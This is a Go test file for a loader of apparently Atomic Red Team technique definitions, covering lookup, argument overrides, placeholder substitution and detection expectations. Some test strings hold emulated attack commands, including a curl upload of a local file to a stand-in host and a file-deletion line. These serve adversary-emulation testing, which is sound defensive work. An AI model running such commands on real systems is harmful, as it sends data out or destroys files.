package atomics

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestFind(t *testing.T) {
	tech := &Technique{Tests: []Test{
		{Name: "Upload with curl", GUID: "3f1c2a9e-0000-4000-8000-000000000001"},
		{Name: "Manual check"},
		{Name: "manual CHECK", GUID: "dup-name"}, // ART has duplicate names; the first wins
	}}
	tests := []struct {
		key  string
		want int // index into tech.Tests, -1 for not found
	}{
		{"Upload with curl", 0},
		{"upload WITH curl", 0},
		{"3f1c2a9e-0000-4000-8000-000000000001", 0},
		{"3F1C2A9E-0000-4000-8000-000000000001", 0},
		{"manual check", 1},
		{"dup-name", 2},
		{"Upload", -1},
		{"", -1}, // must not match the tests without a GUID
	}
	for _, tc := range tests {
		t.Run(tc.key, func(t *testing.T) {
			got, ok := tech.Find(tc.key)
			if tc.want < 0 {
				assert.False(t, ok)
				assert.Nil(t, got)
				return
			}
			require.True(t, ok)
			assert.Same(t, &tech.Tests[tc.want], got)
		})
	}
}

func TestArgs(t *testing.T) {
	test := &Test{Name: "t", InputArguments: map[string]Argument{
		"url":   {Type: "url", Default: "https://example.invalid"},
		"count": {Type: "integer", Default: "5"},
		"empty": {Type: "string"},
	}}
	tests := []struct {
		name      string
		overrides map[string]string
		want      map[string]string
		wantErr   []string // substrings of the error
	}{
		{
			name: "defaults",
			want: map[string]string{"url": "https://example.invalid", "count": "5", "empty": ""},
		},
		{
			name:      "override",
			overrides: map[string]string{"count": "9", "empty": "x"},
			want:      map[string]string{"url": "https://example.invalid", "count": "9", "empty": "x"},
		},
		{
			name:      "override with empty string",
			overrides: map[string]string{"url": ""},
			want:      map[string]string{"url": "", "count": "5", "empty": ""},
		},
		{
			name:      "unknown override",
			overrides: map[string]string{"cuont": "9", "count": "1"},
			wantErr:   []string{`"cuont"`, `test "t"`},
		},
		{
			name:      "several unknown overrides are all named",
			overrides: map[string]string{"b": "1", "a": "2"},
			wantErr:   []string{`"a", "b"`},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := test.Args(tc.overrides)
			if tc.wantErr != nil {
				require.Error(t, err)
				for _, s := range tc.wantErr {
					assert.Contains(t, err.Error(), s)
				}
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tc.want, got)
		})
	}

	t.Run("no arguments declared", func(t *testing.T) {
		got, err := (&Test{}).Args(nil)
		require.NoError(t, err)
		assert.Empty(t, got)
		_, err = (&Test{}).Args(map[string]string{"x": "1"})
		assert.ErrorContains(t, err, `"x"`)
	})
}

func TestSubstitute(t *testing.T) {
	args := map[string]string{
		"url":          "https://example.invalid",
		"file":         `C:\tmp\a b.txt`,
		"empty":        "",
		"self":         "#{self}",
		"ref":          "#{url}",
		"project-id":   "p1", // ART uses hyphens in some names
		"PathToThings": "x",
	}
	tests := []struct {
		name, in, want string
	}{
		{"plain", "curl #{url}", "curl https://example.invalid"},
		{"used twice", "#{file} && del #{file}", `C:\tmp\a b.txt && del C:\tmp\a b.txt`},
		{"unknown left alone", "echo #{nope} #{url}", "echo #{nope} https://example.invalid"},
		{"empty value", "a#{empty}b", "ab"},
		{"value is not expanded again", "#{ref} #{self}", "#{url} #{self}"},
		{"hyphenated name", "gcloud config set project #{project-id}", "gcloud config set project p1"},
		{"case-sensitive like String.Replace", "#{URL}", "#{URL}"},
		{"unterminated", "echo #{url", "echo #{url"},
		{"nested braces expand the inner one", "#{#{url}}", "#{https://example.invalid}"},
		{"adjacent", "#{url}#{url}", "https://example.invalid" + "https://example.invalid"},
		{"no references", "PathToAtomicsFolder\\bin", "PathToAtomicsFolder\\bin"},
		{"empty name", "#{}", "#{}"},
		{"empty input", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, Substitute(tc.in, args))
		})
	}
}

// TestSubstituteLoaded runs defaults and overrides from a file through Args
// and Substitute together.
func TestSubstituteLoaded(t *testing.T) {
	tech, err := LoadFile("testdata/valid/T0000.yaml")
	require.NoError(t, err)
	test, ok := tech.Find("upload with CURL")
	require.True(t, ok)

	args, err := test.Args(nil)
	require.NoError(t, err)
	assert.Equal(t, "curl --retry 5 -F f=@x https://example.invalid/upload 5", Substitute(test.Executor.Command, args))

	args, err = test.Args(map[string]string{"retries": "2", "empty": "/tmp/"})
	require.NoError(t, err)
	assert.Equal(t, "curl --retry 2 -F f=@/tmp/x https://example.invalid/upload 2", Substitute(test.Executor.Command, args))
	// #{harness} is not an input argument: it is left for the runner.
	assert.Equal(t, "#{harness} simulate upload", Substitute(test.Simulation.Command, args))

	_, err = test.Args(map[string]string{"retry": "2"})
	assert.ErrorContains(t, err, `"retry"`)
}

func TestLoadExpectations(t *testing.T) {
	exps, err := LoadExpectations("e.yaml", []byte("expect:\n  workstation:\n  - rule: r\n    fires: true\n    signal: S\n    score: 2\n    intent:\n      fires: false\n"))
	require.NoError(t, err)
	require.Len(t, exps["workstation"], 1)
	e := exps["workstation"][0]
	assert.Equal(t, "r", e.Rule)
	assert.Equal(t, "S", e.Signal)
	require.NotNil(t, e.Score)
	assert.Equal(t, 2, *e.Score)
	require.NotNil(t, e.Intent)
	assert.False(t, e.Intent.Fires)

	_, err = LoadExpectations("e.yaml", []byte("expect:\n  workstation:\n  - fires: true\n"))
	var pe *ParseError
	require.ErrorAs(t, err, &pe)
	assert.Equal(t, "e.yaml", pe.File)
	assert.Equal(t, 3, pe.Line)
	assert.Contains(t, pe.Field, "expect.workstation[0]")

	_, err = LoadExpectations("e.yaml", []byte("rules: []\n"))
	require.ErrorAs(t, err, &pe)
	assert.Contains(t, err.Error(), "expect")
}
